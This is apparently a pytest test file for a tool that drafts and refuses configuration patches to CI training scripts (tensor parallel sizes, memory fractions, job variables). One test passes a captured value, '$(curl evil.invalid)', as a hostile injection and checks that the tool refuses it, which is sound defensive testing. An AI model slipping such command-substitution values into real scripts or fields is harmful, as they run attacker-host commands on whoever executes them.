from __future__ import annotations

import pytest

from tests.fixes.recipes.repository import changed, draft, patch, replaced, with_file
from triage.fixes.recipes.values import fitting, new_value
from triage.fixes.refusal import Refusal
from triage.model.diagnosis import Facts, Platform
from triage.model.patch import PatchState
from triage.model.recipe import EffectiveValue, SetEnv
from triage.model.signature import Tables

NPU = Facts(platform=Platform.NPU)
HALF = EffectiveValue(knob="fsdp_size", from_values=("1",), to="2")
GOLDEN = EffectiveValue(knob="rollout_tensor_parallel", from_values=("1",), to="2", together=(HALF,))


def test_both_halves_are_changed_in_the_branch_that_the_job_takes() -> None:
    proved = patch(GOLDEN, "async")
    assert proved.state is PatchState.PATCH, proved.reason
    assert changed(proved) == ["-gen_tp=1", "+gen_tp=2", "-fsdp_size=1", "+fsdp_size=2"]
    assert proved.blast_radius == (".github/workflows/train.yml: async_npu (npu) reads lines 15, 17 too",)


def test_one_half_that_cannot_be_done_refuses_both() -> None:
    other = replaced("tests/async.sh", "fsdp_size=1", "fsdp_size=4")
    found = draft(GOLDEN, "async", repository=other)
    assert found.state is PatchState.REFUSED
    assert "actor.fsdp_size" in found.reason
    assert "it is 4 here" in found.reason


def test_what_is_done_already_is_in_place() -> None:
    done = replaced("tests/async.sh", "fsdp_size=1", "fsdp_size=2")
    done = type(done)({**done.files, "tests/async.sh": done.read("tests/async.sh").replace(b"gen_tp=1", b"gen_tp=2")})
    found = draft(GOLDEN, "async", repository=done)
    assert found.state is PatchState.IN_PLACE
    assert "look elsewhere" in found.reason


def test_a_variable_that_this_branch_does_not_read_is_seen_to_do_nothing() -> None:
    found = draft(SetEnv("GEN_TP", "2"), "async")
    assert found.state is PatchState.REFUSED
    assert "tests/async.sh:13" in found.reason


def test_a_default_that_other_jobs_rely_on_is_set_for_this_job_alone() -> None:
    proved = patch(EffectiveValue(knob="memory", add="-0.2"), "rocm_large")
    assert proved.state is PatchState.PATCH, proved.reason
    assert changed(proved) == ["-run: bash tests/run.sh", "+run: MEMORY=0.6 bash tests/run.sh"]
    assert proved.blast_radius == ()


def test_a_key_that_only_the_configuration_sets_is_appended() -> None:
    proved = patch(EffectiveValue(knob="sequences", factor="0.5"), "rocm_large")
    assert proved.state is PatchState.PATCH, proved.reason
    assert changed(proved) == ["-run: bash tests/run.sh", "+run: bash tests/run.sh rollout.max_seqs=128"]


def test_a_flag_of_a_server() -> None:
    proved = patch(EffectiveValue(knob="memory", add="-0.1"), "serve")
    assert proved.state is PatchState.PATCH, proved.reason
    assert "--gpu-memory-utilization=0.8 --port 80" in changed(proved)[1]


def test_a_value_that_breaks_the_layout_is_passed_over() -> None:
    ladder = EffectiveValue(knob="rollout_tensor_parallel", candidates=("3", "4", "2"))
    assert changed(patch(ladder, "async"))[:2] == ["-gen_tp=1", "+gen_tp=2"]
    found = draft(EffectiveValue(knob="rollout_tensor_parallel", to="3"), "async")
    assert found.state is PatchState.REFUSED
    assert "4 % 3" in found.reason


def test_a_step_that_is_named_is_the_only_one_looked_at() -> None:
    found = draft(EffectiveValue(knob="memory", add="-0.2"), "rocm_small", step="Train again")
    assert [edit.new for edit in found.edits] == [b"MEMORY=0.6 "]


def test_an_unknown_value_is_refused() -> None:
    unknown = replaced("tests/run.sh", "MEMORY=${MEMORY:-0.8}", "MEMORY=$(cat memory.txt)")
    found = draft(EffectiveValue(knob="memory", add="-0.2"), "rocm_large", repository=unknown)
    assert found.state is PatchState.REFUSED
    assert "not known" in found.reason


def test_a_capture_may_be_written_only_when_it_is_a_number() -> None:
    recipe = EffectiveValue(knob="sequences", to="{most}")
    assert "+run: bash tests/run.sh rollout.max_seqs=96" in changed(
        patch(recipe, "rocm_large", captures={"most": "96"})
    )
    found = draft(recipe, "rocm_large", captures={"most": "$(curl evil.invalid)"})
    assert found.state is PatchState.REFUSED


def test_a_knob_that_is_a_variable() -> None:
    proved = patch(EffectiveValue(knob="jobs", to="4"), "rocm_small")
    assert changed(proved) == ['+MAX_JOBS: "4"']


def test_facts_of_the_trace_decide_a_branch() -> None:
    facts = Facts(commands=("+ NAME=trtllm",))
    found = draft(EffectiveValue(knob="rollout_tensor_parallel", from_values=("4",), to="2"), "async", facts=facts)
    assert found.state in (PatchState.PATCH, PatchState.REFUSED)
    assert "gen_tp=1" not in found.reason


@pytest.mark.parametrize(
    ("recipe", "old", "expected"),
    [
        (EffectiveValue(key="k", to="2"), "1", "2"),
        (EffectiveValue(key="k", to="True"), "true", None),
        (EffectiveValue(key="k", to="0.6", at_most="0.6"), "0.5", None),
        (EffectiveValue(key="k", to="2", at_least="2"), "4", None),
        (EffectiveValue(key="k", candidates=("2", "-1")), "1", "2"),
        (EffectiveValue(key="k", candidates=("2", "-1")), "2", "-1"),
        (EffectiveValue(key="k", candidates=("2", "-1")), "-1", None),
        (EffectiveValue(key="k", factor="0.5"), "1024", "512"),
        (EffectiveValue(key="k", factor="0.5", at_least="128"), "200", "128"),
        (EffectiveValue(key="k", factor="0.5", at_least="128"), "128", None),
        (EffectiveValue(key="k", add="-0.1", at_least="0.3"), "0.85", "0.75"),
        (EffectiveValue(key="k", add="-0.1"), "0.80", "0.7"),
        (EffectiveValue(key="k", factor="2", at_most="8"), "8", None),
        (EffectiveValue(key="k", factor="1.5", at_most="8"), "6", "8"),
    ],
)
def test_new_values(recipe: EffectiveValue, old: str, expected: str | None) -> None:
    assert new_value(recipe, old, lambda _: "") == expected


@pytest.mark.parametrize(
    ("recipe", "old"),
    [
        (EffectiveValue(key="k", from_values=("1",), to="2"), "3"),
        (EffectiveValue(key="k", factor="0.5"), "auto"),
        (EffectiveValue(key="k"), "1"),
    ],
)
def test_no_value_fits(recipe: EffectiveValue, old: str) -> None:
    assert isinstance(new_value(recipe, old, lambda _: ""), Refusal)


GUARDED = """
device=$(python3 -c 'print(1)')
memory=0.6
if [ -n "$device" ] && [ "$device" == "npu" ]; then
    memory=0.7
fi
python3 -m pkg.train.main rollout.name=vllm rollout.memory=${memory}
"""
FORKED = """
mode=$(python3 -c 'print(1)')
memory=0.6
if [ "$mode" == "large" ]; then
    memory=0.7
fi
python3 -m pkg.train.main rollout.name=vllm rollout.memory=${memory}
"""


def test_the_branch_behind_a_guard_for_what_a_program_prints_is_taken() -> None:
    made = patch(
        EffectiveValue(knob="memory", add="-0.2"), "closed", repository=with_file("tests/closed.sh", GUARDED), facts=NPU
    )
    assert made.state is PatchState.PATCH, (made.reason, made.diff)
    assert changed(made) == ["-memory=0.7", "+memory=0.5"]


def test_which_of_two_branches_ran_is_not_guessed_but_read_from_the_log() -> None:
    tree = with_file("tests/closed.sh", FORKED)
    found = draft(EffectiveValue(knob="memory", add="-0.2"), "closed", repository=tree)
    assert found.state is PatchState.REFUSED
    assert "0.6 or 0.7, and the log does not say which" in found.reason
    shown = Facts(settings={"rollout.memory": "0.70"})
    found = draft(EffectiveValue(knob="memory", add="-0.2"), "closed", repository=tree, facts=shown)
    assert [edit.new for edit in found.edits] == [b"0.5"]


CHAINED = """
COMMON=${COMMON:-2}
TRAIN=${TRAIN:-$COMMON}
INFER=${INFER:-$COMMON}
python3 -m pkg.train.main rollout.name=vllm rollout.tp=${INFER} actor.fsdp_size=${TRAIN} $@
"""


def test_a_common_default_of_two_knobs_is_not_turned_for_one_of_them() -> None:
    tree = with_file("tests/closed.sh", CHAINED)
    made = patch(EffectiveValue(knob="rollout_tensor_parallel", to="4"), "closed", repository=tree)
    assert made.state is PatchState.PATCH, (made.reason, made.diff)
    assert changed(made) == ["-- run: bash tests/closed.sh", "+- run: INFER=4 bash tests/closed.sh"]
    direct = with_file("tests/closed.sh", CHAINED.replace("${INFER}", "${COMMON}").replace("${TRAIN}", "${COMMON}"))
    made = patch(EffectiveValue(knob="rollout_tensor_parallel", to="4"), "closed", repository=direct)
    assert changed(made)[1] == "+- run: bash tests/closed.sh rollout.tp=4"


def test_a_switch_that_a_script_gives_to_all_of_one_role_is_turned_for_all_of_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    script = "off=False\npython3 -m pkg.train.main actor.a_offload=$off {role}.b_offload=$off $@\n"
    tables = Tables(
        knobs={"a": {"hydra": ("actor.a_offload",)}, "b": {"hydra": ("actor.b_offload", "critic.b_offload")}}
    )
    monkeypatch.setattr("tests.fixes.recipes.repository.TABLES", tables)
    recipe = EffectiveValue(knob="a", from_values=("False",), to="True")
    for role, expected in (("actor", "+off=True"), ("critic", "+- run: bash tests/closed.sh actor.a_offload=True")):
        tree = with_file("tests/closed.sh", script.format(role=role))
        made = patch(recipe, "closed", repository=tree)
        assert changed(made)[1] == expected, made.reason


def test_another_setting_that_follows_is_named() -> None:
    tree = with_file(
        "tests/closed.sh", "M=0.8\npython3 -m pkg.train.main rollout.name=vllm rollout.memory=$M other.memory=$M\n"
    )
    found = draft(EffectiveValue(knob="memory", to="0.7"), "closed", repository=tree)
    assert "other.memory take their value from tests/closed.sh:1 too" in found.notes


def test_a_knob_that_no_command_reads_is_named_as_people_write_it() -> None:
    found = draft(HALF, "serve")
    assert found.state is PatchState.REFUSED
    assert "reads a setting such as `" in found.reason
    assert "knob" not in found.reason


@pytest.mark.parametrize(("number", "expected"), [("28", ("4", "2", "1")), ("14", ("2", "1")), ("", ("4", "2", "1"))])
def test_only_candidates_that_divide_the_models_number_are_left(number: str, expected: tuple[str, ...]) -> None:
    assert fitting(("4", "2", "1"), number) == expected


@pytest.mark.parametrize(
    ("captures", "reason"),
    [
        ({"heads": "28", "size": "8"}, "it is 1 here"),
        ({"heads": "28"}, "no `size`"),
        ({"size": "1"}, "no `heads`"),
    ],
    ids=["another-value", "no-size", "no-heads"],
)
def test_a_split_is_changed_only_where_it_is_the_one_that_the_message_names(
    captures: dict[str, str], reason: str
) -> None:
    knob = "rollout_tensor_parallel"
    recipe = EffectiveValue(knob=knob, from_values=("{size}",), candidates=("4", "2"), dividing="{heads}")
    found = draft(recipe, "async", captures=captures)
    assert found.state is PatchState.REFUSED
    assert reason in found.reason
